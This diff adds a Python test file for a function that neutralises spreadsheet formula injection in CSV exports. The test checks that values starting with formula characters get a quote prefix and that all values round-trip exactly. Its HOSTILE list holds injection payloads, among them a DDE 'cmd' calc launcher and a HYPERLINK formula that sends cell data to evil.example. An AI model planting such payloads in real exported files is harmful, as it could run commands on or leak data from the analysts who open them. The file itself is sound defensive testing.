@@ -1,0 +1,70 @@
+"""CSV in which no text is a formula, and from which every text can be had to the letter."""
+
+from __future__ import annotations
+
+import csv
+import io
+import re
+
+import pyarrow as pa
+import pyarrow.csv
+import pytest
+from hypothesis import example, given
+from hypothesis import strategies as st
+
+from dcc.analysis.spreadsheets import guarded
+
+FORMULA = tuple("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")
+HOSTILE = [
+    "=cmd|' /C calc'!A0",
+    '=HYPERLINK("http://evil.example/"&A1)',
+    "+1+cmd",
+    "-2+3",
+    "@SUM(A1)",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    "\uff1d1+1",
+    "--1",
+    "-1e",
+    "+.e1",
+    "-1\n=1",
+]
+HARMLESS = ["", "a", "a=b", " =1", "-21.85", "+1", "-.5", "1e-3", "-1E+10", "-3.", "IMPC_BWT_001", "é", "mouse -1"]
+
+
+def guarded_texts(texts: list[str | None]) -> list[str | None]:
+    batch = pa.record_batch({"value": pa.array(texts, pa.string()), "id": pa.array(range(len(texts)), pa.int64())})
+    found = guarded(batch)
+    assert found.schema == batch.schema
+    assert found.column(1) == batch.column(1)
+    return found.column(0).to_pylist()
+
+
+def original(text: str) -> str:
+    """As docs/analysts.md says."""
+    return re.sub(r"\A'", "", text)
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_what_a_spreadsheet_would_run_is_text_there(text: str) -> None:
+    assert guarded_texts(["before", text, None]) == ["before", f"'{text}", None]
+
+
+def test_other_texts_and_numbers_stay_as_they_are() -> None:
+    assert guarded_texts([*HARMLESS, None]) == [*HARMLESS, None]
+
+
+@given(st.lists(st.none() | st.text() | st.sampled_from(HOSTILE + HARMLESS) | st.floats().map(str), max_size=20))
+@example(["'", "''=1", "'=1", "=1"])
+def test_every_text_is_had_back_from_the_file_and_none_is_a_formula(texts: list[str | None]) -> None:
+    texts = [text and text.replace("\0", "") for text in texts]
+    batch = pa.record_batch({"value": pa.array(texts, pa.string())})
+    written = io.BytesIO()
+    with pa.csv.CSVWriter(written, batch.schema, write_options=pa.csv.WriteOptions(quoting_style="needed")) as writer:
+        writer.write_batch(guarded(batch))
+    rows = list(csv.reader(io.StringIO(written.getvalue().decode(), newline="")))[1:]
+    cells = [row[0] if row else "" for row in rows]
+    assert [original(cell) for cell in cells] == [text or "" for text in texts]
+    for cell in cells:
+        assert not cell.startswith(FORMULA) or re.fullmatch(r"[+-]?[0-9.]+([eE][+-]?[0-9]+)?", cell), cell
